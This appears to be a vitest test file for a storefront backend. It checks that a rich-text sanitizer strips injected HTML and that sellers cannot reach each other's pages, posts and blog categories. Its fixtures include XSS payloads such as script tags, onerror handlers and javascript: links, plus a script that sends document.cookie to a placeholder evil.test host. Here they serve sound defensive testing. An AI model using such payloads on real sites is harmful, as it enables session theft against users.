import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  BACKENDS,
  bearer,
  body,
  createTestApp,
  createUser,
  login,
  type TestApp,
} from '../../test/helpers.js';
import { sanitizeRichText } from '../content/sanitizeRichText.js';

interface PageAnswer {
  id: number;
  store_id: number;
  title: string;
  slug: string;
  content_html: string;
  status: string;
}
interface PostAnswer extends PageAnswer {
  category_id: number | null;
  cover_image_url: string | null;
  published_at: string | null;
}

describe('rich text sanitizing', () => {
  it.each([
    ['<p>Hi<script>alert(1)</script></p>', '<p>Hi</p>'],
    ['<img src="x" onerror="alert(1)">', '<img src="x" />'],
    ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="JaVaScRiPt:alert(1)">x</a>', '<a>x</a>'],
    ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img />'],
    ['<iframe src="https://evil.test"></iframe><p>ok</p>', '<p>ok</p>'],
    ['<p style="position:fixed" onclick="steal()">x</p>', '<p>x</p>'],
    ['<svg><script>alert(1)</script></svg>', ''],
    ['<form action="https://evil.test"><input name="card"></form>', ''],
    ['<a href="//evil.test/x">x</a>', '<a>x</a>'],
    ['<h1>Title</h1>', '<h2>Title</h2>'],
    [
      '<a href="https://printloom.test" target="_blank">shop</a>',
      '<a href="https://printloom.test" target="_blank" rel="noopener noreferrer nofollow">shop</a>',
    ],
    [
      '<h2>Returns</h2><ul><li><strong>30</strong> days</li></ul><blockquote>Easy</blockquote>',
      '<h2>Returns</h2><ul><li><strong>30</strong> days</li></ul><blockquote>Easy</blockquote>',
    ],
  ])('%s', (input, expected) => {
    expect(sanitizeRichText(input)).toBe(expected);
  });
});

describe.each(BACKENDS)('store pages and blog on %s', (backend) => {
  let t: TestApp;
  let seller: string;
  let other: string;
  let storeId: number;
  let otherStoreId: number;

  const call = (
    as: string,
    method: 'GET' | 'POST' | 'PUT' | 'DELETE',
    url: string,
    payload?: object,
  ) => t.app.inject({ method, url, headers: bearer(as), ...(payload ? { payload } : {}) });

  beforeAll(async () => {
    t = await createTestApp(backend);
    await createUser(t.app, { email: 'writer@example.test' });
    await createUser(t.app, { email: 'snoop@example.test' });
    seller = await login(t.app, 'writer@example.test');
    other = await login(t.app, 'snoop@example.test');
    storeId = body<{ id: number }>(
      await call(seller, 'POST', '/seller/stores', { name: 'Words', slug: 'words-shop' }),
    ).data.id;
    otherStoreId = body<{ id: number }>(
      await call(other, 'POST', '/seller/stores', { name: 'Snoop', slug: 'snoop-shop' }),
    ).data.id;
  });
  afterAll(async () => {
    await t?.close();
  });

  it('stores a page with its HTML sanitized and a slug from its title', async () => {
    const response = await call(seller, 'POST', '/seller/store-pages', {
      store_id: storeId,
      title: 'Shipping & Returns',
      content_html:
        '<h2>Shipping</h2><p onmouseover="steal()">We ship <em>fast</em>.</p><script>fetch("//evil.test?c="+document.cookie)</script><img src=x onerror=alert(1)>',
      status: 'published',
    });
    expect(response.statusCode, response.body).toBe(200);
    const page = body<PageAnswer>(response).data;
    expect(page).toMatchObject({ slug: 'shipping-returns', status: 'published' });
    expect(page.content_html).toBe('<h2>Shipping</h2><p>We ship <em>fast</em>.</p><img src="x" />');
    const updated = await call(seller, 'PUT', `/seller/store-pages/${page.id}`, {
      content_html: '<p><a href="javascript:alert(document.domain)">Click</a></p>',
    });
    expect(body<PageAnswer>(updated).data.content_html).toBe('<p><a>Click</a></p>');
    const clash = await call(seller, 'POST', '/seller/store-pages', {
      store_id: storeId,
      title: 'Another',
      slug: 'shipping-returns',
    });
    expect(clash.statusCode).toBe(409);
    const list = body<PageAnswer[]>(
      await call(seller, 'GET', `/seller/store-pages?store_id=${storeId}`),
    ).data;
    expect(list.map((p) => p.title)).toEqual(['Shipping & Returns']);
  });

  it('writes posts with a category, cover image, draft then published', async () => {
    const category = body<{ id: number; slug: string }>(
      await call(seller, 'POST', `/seller/stores/${storeId}/blog/categories`, {
        name: 'Behind the Print',
      }),
    ).data;
    expect(category.slug).toBe('behind-the-print');
    expect(
      (
        await call(seller, 'POST', `/seller/stores/${storeId}/blog/categories`, {
          name: 'Behind the print',
        })
      ).statusCode,
    ).toBe(409);

    const draft = body<PostAnswer>(
      await call(seller, 'POST', `/seller/stores/${storeId}/blog/posts`, {
        title: 'How we print tees',
        category_id: category.id,
        cover_image_url: 'https://cdn.example.test/cover.jpg',
        content_html: '<p>Ink <u>meets</u> cotton.</p><object data="evil.swf"></object>',
      }),
    ).data;
    expect(draft).toMatchObject({
      slug: 'how-we-print-tees',
      status: 'draft',
      published_at: null,
      category_id: category.id,
      content_html: '<p>Ink <u>meets</u> cotton.</p>',
    });
    const published = body<PostAnswer>(
      await call(seller, 'PUT', `/seller/stores/${storeId}/blog/posts/${draft.id}`, {
        status: 'published',
      }),
    ).data;
    expect(published.published_at).not.toBeNull();
    const again = body<PostAnswer>(
      await call(seller, 'PUT', `/seller/stores/${storeId}/blog/posts/${draft.id}`, {
        title: 'How we print our tees',
      }),
    ).data;
    // The first publication date stays.
    expect(again.published_at).toBe(published.published_at);
    const onlyPublished = body<PostAnswer[]>(
      await call(seller, 'GET', `/seller/stores/${storeId}/blog/posts?status=published`),
    ).data;
    expect(onlyPublished.map((p) => p.title)).toEqual(['How we print our tees']);
    const categories = body<Array<{ name: string; post_count: number }>>(
      await call(seller, 'GET', `/seller/stores/${storeId}/blog/categories`),
    ).data;
    expect(categories).toEqual([
      expect.objectContaining({ name: 'Behind the Print', post_count: 1 }),
    ]);

    // Deleting the category keeps the post, without a category.
    await call(seller, 'DELETE', `/seller/stores/${storeId}/blog/categories/${category.id}`);
    const kept = body<PostAnswer>(
      await call(seller, 'GET', `/seller/stores/${storeId}/blog/posts/${draft.id}`),
    ).data;
    expect(kept.category_id).toBeNull();
  });

  it("keeps another seller's stores, pages, posts and categories out of reach", async () => {
    const [page] = body<PageAnswer[]>(await call(seller, 'GET', '/seller/store-pages')).data;
    const [post] = body<PostAnswer[]>(
      await call(seller, 'GET', `/seller/stores/${storeId}/blog/posts`),
    ).data;
    expect((await call(other, 'GET', `/seller/store-pages/${page?.id}`)).statusCode).toBe(404);
    expect(
      (await call(other, 'PUT', `/seller/store-pages/${page?.id}`, { title: 'Mine' })).statusCode,
    ).toBe(404);
    expect((await call(other, 'DELETE', `/seller/store-pages/${page?.id}`)).statusCode).toBe(404);
    expect(
      (await call(other, 'POST', '/seller/store-pages', { store_id: storeId, title: 'In' }))
        .statusCode,
    ).toBe(404);
    expect((await call(other, 'GET', `/seller/stores/${storeId}/blog/posts`)).statusCode).toBe(404);
    expect(
      (await call(other, 'GET', `/seller/stores/${storeId}/blog/posts/${post?.id}`)).statusCode,
    ).toBe(404);
    // Through their own store, the post of another store is not found either.
    expect(
      (await call(other, 'GET', `/seller/stores/${otherStoreId}/blog/posts/${post?.id}`))
        .statusCode,
    ).toBe(404);
    expect(
      (await call(other, 'DELETE', `/seller/stores/${otherStoreId}/blog/posts/${post?.id}`))
        .statusCode,
    ).toBe(404);
    expect(body<PageAnswer[]>(await call(other, 'GET', '/seller/store-pages')).data).toEqual([]);
    // A category of another store cannot be given to a post.
    const foreignCategory = body<{ id: number }>(
      await call(other, 'POST', `/seller/stores/${otherStoreId}/blog/categories`, { name: 'Spy' }),
    ).data;
    const refused = await call(seller, 'POST', `/seller/stores/${storeId}/blog/posts`, {
      title: 'Sneaky',
      category_id: foreignCategory.id,
    });
    expect(refused.statusCode).toBe(422);
  });
});
